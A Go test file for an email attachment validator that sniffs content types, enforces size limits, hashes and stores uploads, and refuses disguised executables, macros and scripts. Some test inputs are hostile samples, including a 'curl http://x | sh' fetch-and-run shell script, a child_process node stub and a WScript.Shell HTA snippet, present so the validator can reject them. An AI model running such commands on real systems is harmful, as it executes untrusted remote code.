package attach_test

import (
	"archive/zip"
	"bytes"
	"context"
	"crypto/sha256"
	"encoding/hex"
	"errors"
	"image"
	"image/jpeg"
	"image/png"
	"io"
	"os"
	"path/filepath"
	"runtime"
	"strings"
	"sync"
	"testing"

	_ "github.com/emersion/go-message/charset"
	"github.com/emersion/go-message/mail"
	"github.com/stretchr/testify/require"

	"github.com/inboxkit/inboxkit/inbox"
	"github.com/inboxkit/inboxkit/inbox/attach"
	"github.com/inboxkit/inboxkit/storage/blob"
)

// recordingStore is a real in-memory store that remembers which keys hold
// a value, so tests can prove that refused attachments leave nothing.
type recordingStore struct {
	*blob.Memory
	mu   sync.Mutex
	keys map[string]bool
}

func newRecordingStore() *recordingStore {
	return &recordingStore{Memory: blob.NewMemory(), keys: map[string]bool{}}
}

func (s *recordingStore) Put(ctx context.Context, key string, r io.Reader) (int64, error) {
	n, err := s.Memory.Put(ctx, key, r)
	if err == nil {
		s.mu.Lock()
		s.keys[key] = true
		s.mu.Unlock()
	}
	return n, err
}

func (s *recordingStore) Delete(ctx context.Context, key string) error {
	s.mu.Lock()
	delete(s.keys, key)
	s.mu.Unlock()
	return s.Memory.Delete(ctx, key)
}

func (s *recordingStore) count() int {
	s.mu.Lock()
	defer s.mu.Unlock()
	return len(s.keys)
}

func pngBytes(t testing.TB) []byte {
	var b bytes.Buffer
	require.NoError(t, png.Encode(&b, image.NewRGBA(image.Rect(0, 0, 4, 4))))
	return b.Bytes()
}

func jpegBytes(t testing.TB) []byte {
	var b bytes.Buffer
	require.NoError(t, jpeg.Encode(&b, image.NewRGBA(image.Rect(0, 0, 4, 4)), nil))
	return b.Bytes()
}

// officeZip builds an OOXML-like document, with a VBA project if macros.
func officeZip(t testing.TB, macros bool) []byte {
	var b bytes.Buffer
	z := zip.NewWriter(&b)
	files := []string{"[Content_Types].xml", "_rels/.rels", "word/document.xml"}
	if macros {
		files = append(files, "word/vbaProject.bin")
	}
	for _, name := range files {
		w, err := z.Create(name)
		require.NoError(t, err)
		_, err = w.Write([]byte(strings.Repeat("<w:document/>", 400)))
		require.NoError(t, err)
	}
	require.NoError(t, z.Close())
	return b.Bytes()
}

func elfBytes() []byte {
	b := make([]byte, 64)
	copy(b, "\x7fELF\x02\x01\x01")
	b[16] = 2 // ET_EXEC
	return b
}

func TestValidateContent(t *testing.T) {
	pdf := []byte("%PDF-1.7\n1 0 obj << /Type /Catalog >> endobj\ntrailer << >>\n%%EOF\n")
	csv := []byte("ref,qty,price\nLUM-5521,2,89.90\nLUM-5522,1,129.00\n")
	for _, tc := range []struct {
		name, filename, declared string
		content                  []byte
		opts                     attach.Options
		wantType                 string // accepted with this type when reject is empty
		reject                   string // substring of the refusal reason
		danger                   string
		mismatch                 bool
	}{
		{name: "png", filename: "photo.png", declared: "image/png", content: pngBytes(t), wantType: "image/png"},
		{name: "jpg alias", filename: "photo.jpg", declared: "image/jpg", content: jpegBytes(t), wantType: "image/jpeg"},
		{name: "jpeg with params", filename: "p.JPEG", declared: "Image/JPEG; name=p.JPEG", content: jpegBytes(t), wantType: "image/jpeg"},
		{name: "pdf", filename: "facture.pdf", declared: "application/pdf", content: pdf, wantType: "application/pdf"},
		{name: "octet-stream: sniff decides", filename: "facture.pdf", declared: "application/octet-stream", content: pdf, wantType: "application/pdf"},
		{name: "no declared type", filename: "photo", declared: "", content: pngBytes(t), wantType: "image/png"},
		{name: "csv declared text/plain", filename: "export.csv", declared: "text/plain", content: csv, wantType: "text/plain"},
		{name: "csv declared csv", filename: "export.csv", declared: "text/csv", content: csv, wantType: "text/csv"},
		{name: "plain text declared csv", filename: "one.csv", declared: "text/csv", content: []byte("just one line"), wantType: "text/csv"},
		{name: "docx", filename: "devis.docx", declared: "application/vnd.openxmlformats-officedocument.wordprocessingml.document", content: officeZip(t, false),
			wantType: "application/vnd.openxmlformats-officedocument.wordprocessingml.document"},
		{name: "empty pdf", filename: "bon.pdf", declared: "application/pdf", content: nil, wantType: "application/pdf"},

		{name: "png declared, jpeg content", filename: "photo.png", declared: "image/png", content: jpegBytes(t), reject: "not the declared image/png", mismatch: true},
		{name: "extension mismatch", filename: "photo.png", declared: "application/octet-stream", content: jpegBytes(t), reject: "extension .png", mismatch: true},
		{name: "pdf named jpg", filename: "scan.jpg", declared: "application/pdf", content: pdf, reject: "extension .jpg", mismatch: true},
		{name: "elf as png", filename: "photo-lampe.png", declared: "image/png", content: elfBytes(), reject: "active content", danger: attach.DangerELF, mismatch: true},
		{name: "pe", filename: "setup.dat", declared: "application/octet-stream", content: append([]byte("MZ\x90\x00"), make([]byte, 60)...), reject: "active content", danger: attach.DangerPE},
		{name: "mach-o", filename: "tool", declared: "", content: append([]byte{0xcf, 0xfa, 0xed, 0xfe, 7, 0, 0, 1}, make([]byte, 56)...), reject: "active content", danger: attach.DangerMachO},
		{name: "shell as jpeg", filename: "scan.jpg", declared: "image/jpeg", content: []byte("#!/bin/sh\ncurl http://x | sh\n"), reject: "active content", danger: attach.DangerShell, mismatch: true},
		{name: "node script", filename: "notes.txt", declared: "text/plain", content: []byte("#!/usr/bin/env node\nrequire('child_process')\n"), reject: "active content", danger: attach.DangerJavaScript},
		{name: "other shebang", filename: "notes.txt", declared: "text/plain", content: []byte("#!/usr/bin/ruby\nputs 1\n"), reject: "active content", danger: attach.DangerScript},
		{name: "hta", filename: "facture.txt", declared: "text/plain", content: []byte("<html><HTA:APPLICATION ID=x><script>new ActiveXObject('WScript.Shell')</script></html>"), reject: "active content", danger: attach.DangerHTA},
		{name: "exe extension", filename: "facture.pdf.exe", declared: "application/pdf", content: pdf, reject: "executable file extension .exe", danger: attach.DangerExtension},
		{name: "vbs extension", filename: "invoice.vbs", declared: "text/plain", content: []byte("MsgBox 1"), reject: "extension .vbs", danger: attach.DangerExtension},
		{name: "ps1 extension", filename: "run.PS1", declared: "text/plain", content: []byte("Get-Process"), reject: "extension .ps1", danger: attach.DangerExtension},
		{name: "docm extension", filename: "devis.docm", declared: "application/octet-stream", content: officeZip(t, true), reject: "extension .docm", danger: attach.DangerExtension},
		{name: "macro inside docx", filename: "devis.docx", declared: "application/vnd.openxmlformats-officedocument.wordprocessingml.document", content: officeZip(t, true), reject: "macros", danger: attach.DangerOfficeMacro},
		{name: "declared executable", filename: "x", declared: "application/x-msdownload", content: []byte("hello"), reject: "executable type", danger: attach.DangerDeclared},
		{name: "zip not allowed by default", filename: "photos.zip", declared: "application/zip", content: officeZip(t, false), reject: "application/zip is not allowed"},
		{name: "html not allowed by default", filename: "recu.html", declared: "text/html", content: []byte("<!DOCTYPE html><html><body>Reçu</body></html>"), reject: "text/html is not allowed"},
		{name: "tenant allow-list", filename: "photo.png", declared: "image/png", content: pngBytes(t), opts: attach.Options{Allow: []string{"application/pdf"}}, reject: "image/png is not allowed"},
		{name: "tenant wildcard", filename: "photo.png", declared: "image/png", content: pngBytes(t), opts: attach.Options{Allow: []string{"image/*"}}, wantType: "image/png"},
		{name: "empty unknown", filename: "blob", declared: "", content: nil, reject: "(unknown) is not allowed"},
	} {
		t.Run(tc.name, func(t *testing.T) {
			store := newRecordingStore()
			opts := tc.opts
			opts.Store, opts.Tenant = store, "acme"
			res, err := attach.Validate(context.Background(), tc.filename, tc.declared, bytes.NewReader(tc.content), opts)
			sum := sha256.Sum256(tc.content)
			require.Equal(t, int64(len(tc.content)), res.Attachment.Size)
			require.Equal(t, hex.EncodeToString(sum[:]), res.Attachment.SHA256)
			require.Equal(t, tc.danger, res.Danger)
			require.Equal(t, tc.mismatch, res.TypeMismatch)
			if tc.reject != "" {
				require.ErrorIs(t, err, attach.ErrRejected)
				require.ErrorIs(t, err, inbox.ErrInvalid)
				require.Contains(t, res.Attachment.Rejected, tc.reject)
				require.Contains(t, err.Error(), tc.reject)
				require.Empty(t, res.Attachment.BlobKey)
				require.Zero(t, store.count(), "nothing of a refused attachment is stored")
				return
			}
			require.NoError(t, err)
			require.Empty(t, res.Attachment.Rejected)
			require.Equal(t, tc.wantType, res.Attachment.ContentType)
			require.True(t, strings.HasPrefix(res.Attachment.BlobKey, "acme/attachment/"))
			rc, err := store.Get(context.Background(), res.Attachment.BlobKey)
			require.NoError(t, err)
			defer rc.Close()
			stored, err := io.ReadAll(rc)
			require.NoError(t, err)
			require.Equal(t, len(tc.content), len(stored))
			require.True(t, bytes.Equal(tc.content, stored))
		})
	}
}

func TestValidateSizeLimit(t *testing.T) {
	store := newRecordingStore()
	content := bytes.Repeat([]byte("a line of text\n"), 1000) // 15000 bytes
	for _, limit := range []int64{100, 4096, 4097, 14999} {
		res, err := attach.Validate(context.Background(), "big.txt", "text/plain", bytes.NewReader(content),
			attach.Options{MaxSize: limit, Store: store, Tenant: "acme"})
		require.ErrorIs(t, err, attach.ErrRejected)
		require.ErrorIs(t, err, inbox.ErrInvalid)
		require.Contains(t, err.Error(), "-byte limit")
		require.Contains(t, res.Attachment.Rejected, "larger than the")
		require.Greater(t, res.Attachment.Size, limit, "size says at least how much was seen")
		require.Empty(t, res.Attachment.SHA256, "a prefix hash would mislead")
		require.Empty(t, res.Attachment.BlobKey)
		require.Zero(t, store.count())
	}
	res, err := attach.Validate(context.Background(), "big.txt", "text/plain", bytes.NewReader(content),
		attach.Options{MaxSize: 15000, Store: store, Tenant: "acme"})
	require.NoError(t, err)
	require.Equal(t, int64(15000), res.Attachment.Size)
	require.Equal(t, 1, store.count())
}

func TestValidateOptionsAndErrors(t *testing.T) {
	_, err := attach.Validate(context.Background(), "a.txt", "text/plain", strings.NewReader("x"), attach.Options{Store: blob.NewMemory()})
	require.ErrorIs(t, err, inbox.ErrInvalid)
	require.Contains(t, err.Error(), "Tenant")
	_, err = attach.Validate(context.Background(), "a.txt", "text/plain", strings.NewReader("x"), attach.Options{Allow: []string{"pdf"}})
	require.ErrorIs(t, err, inbox.ErrInvalid)

	boom := errors.New("connection reset")
	store := newRecordingStore()
	r := io.MultiReader(strings.NewReader(strings.Repeat("x", 5000)), iotestErr{boom})
	_, err = attach.Validate(context.Background(), "a.txt", "text/plain", r, attach.Options{Store: store, Tenant: "acme"})
	require.ErrorIs(t, err, boom)
	require.NotErrorIs(t, err, attach.ErrRejected)
	require.Zero(t, store.count())

	ctx, cancel := context.WithCancel(context.Background())
	cancel()
	_, err = attach.Validate(ctx, "a.txt", "text/plain", strings.NewReader("x"), attach.Options{Store: store, Tenant: "acme"})
	require.ErrorIs(t, err, context.Canceled)
	require.Zero(t, store.count())
}

type iotestErr struct{ err error }

func (e iotestErr) Read([]byte) (int, error) { return 0, e.err }

// TestValidateStreams stores a 48 MiB upload into a directory store and
// checks that memory use does not grow with its size.
func TestValidateStreams(t *testing.T) {
	if testing.Short() {
		t.Skip("writes 48 MiB")
	}
	store, err := blob.Dir(filepath.Join(t.TempDir(), "blobs"))
	require.NoError(t, err)
	defer store.Close()
	const size = 48 << 20
	head := []byte("ref;qty\n")
	src := io.MultiReader(bytes.NewReader(head), io.LimitReader(repeatReader('7'), size-int64(len(head))))
	var before, after runtime.MemStats
	runtime.GC()
	runtime.ReadMemStats(&before)
	res, err := attach.Validate(context.Background(), "export.csv", "text/csv", src, attach.Options{MaxSize: 64 << 20, Store: store, Tenant: "acme"})
	runtime.ReadMemStats(&after)
	require.NoError(t, err)
	require.Equal(t, int64(size), res.Attachment.Size)
	require.Less(t, after.TotalAlloc-before.TotalAlloc, uint64(4<<20), "Validate buffered the upload")
}

type repeatReader byte

func (r repeatReader) Read(p []byte) (int, error) {
	for i := range p {
		p[i] = byte(r)
	}
	return len(p), nil
}

// TestCorpusAttachments runs every attachment of the mail corpus through
// Validate and compares with the manifest: names, sizes, hashes, and the
// refusal of the disguised executables.
func TestCorpusAttachments(t *testing.T) {
	corpusDir, cases := loadManifest(t)
	checked := 0
	for _, c := range cases {
		if len(c.Expect.Attachments) == 0 {
			continue
		}
		f, err := os.Open(filepath.Join(corpusDir, c.File))
		if os.IsNotExist(err) {
			continue // the generated 5 MB message is not committed
		}
		require.NoError(t, err)
		got := corpusParts(t, f)
		f.Close()
		i := 0
		for _, want := range c.Expect.Attachments {
			if want.Filename == nil {
				continue
			}
			require.Less(t, i, len(got), "%s: missing attachment %s", c.File, *want.Filename)
			p := got[i]
			i++
			if p.name == "" {
				// mime.ParseMediaType decodes RFC 2231 names in UTF-8 and
				// US-ASCII only (mime-07 has an ISO-8859-1 one); decoding is
				// the parser's job, so use the decoded name from the manifest.
				p.name = *want.Filename
			}
			store := newRecordingStore()
			res, err := attach.Validate(context.Background(), p.name, p.contentType, bytes.NewReader(p.body), attach.Options{Store: store, Tenant: "maison-lumiere"})
			require.Equal(t, *want.Filename, res.Attachment.Filename, c.File)
			if want.Size != nil {
				require.Equal(t, *want.Size, res.Attachment.Size, "%s %s", c.File, *want.Filename)
			}
			if want.SHA256 != "" {
				require.Equal(t, want.SHA256, res.Attachment.SHA256, "%s %s", c.File, *want.Filename)
			}
			if want.SniffedKind != "" || want.TypeMismatch {
				require.ErrorIs(t, err, attach.ErrRejected, "%s %s", c.File, *want.Filename)
				require.Equal(t, want.SniffedKind, res.Danger)
				require.Equal(t, want.TypeMismatch, res.TypeMismatch)
				require.Zero(t, store.count())
			}
			if strings.HasSuffix(*want.Filename, ".exe") {
				require.ErrorIs(t, err, attach.ErrRejected, "%s %s", c.File, *want.Filename)
			}
			if err == nil {
				// A generic declared type is replaced by the sniffed one.
				wantType := want.ContentType
				if wantType == "application/octet-stream" {
					wantType = res.Sniffed
				}
				require.Equal(t, wantType, res.Attachment.ContentType, "%s %s", c.File, *want.Filename)
				require.Equal(t, 1, store.count())
			}
			checked++
		}
	}
	require.GreaterOrEqual(t, checked, 20)
}

type corpusPart struct {
	name, contentType string
	body              []byte
}

// corpusParts returns the attachment parts of a message, in order.
func corpusParts(t *testing.T, r io.Reader) []corpusPart {
	t.Helper()
	mr, err := mail.CreateReader(r)
	require.NoError(t, err)
	var parts []corpusPart
	for {
		p, err := mr.NextPart()
		if errors.Is(err, io.EOF) {
			break
		}
		require.NoError(t, err)
		h, ok := p.Header.(*mail.AttachmentHeader)
		if !ok {
			// go-message reports inline parts with a name as inline text
			// parts; only named parts are attachments here.
			ih, ok := p.Header.(*mail.InlineHeader)
			if !ok {
				continue
			}
			_, params, _ := ih.ContentDisposition()
			if params["filename"] == "" {
				_, ctParams, _ := ih.ContentType()
				if ctParams["name"] == "" {
					continue
				}
			}
			h = &mail.AttachmentHeader{Header: ih.Header}
		}
		name, _ := h.Filename()
		ct, _, _ := h.ContentType()
		body, err := io.ReadAll(p.Body)
		require.NoError(t, err)
		parts = append(parts, corpusPart{name: name, contentType: ct, body: body})
	}
	return parts
}
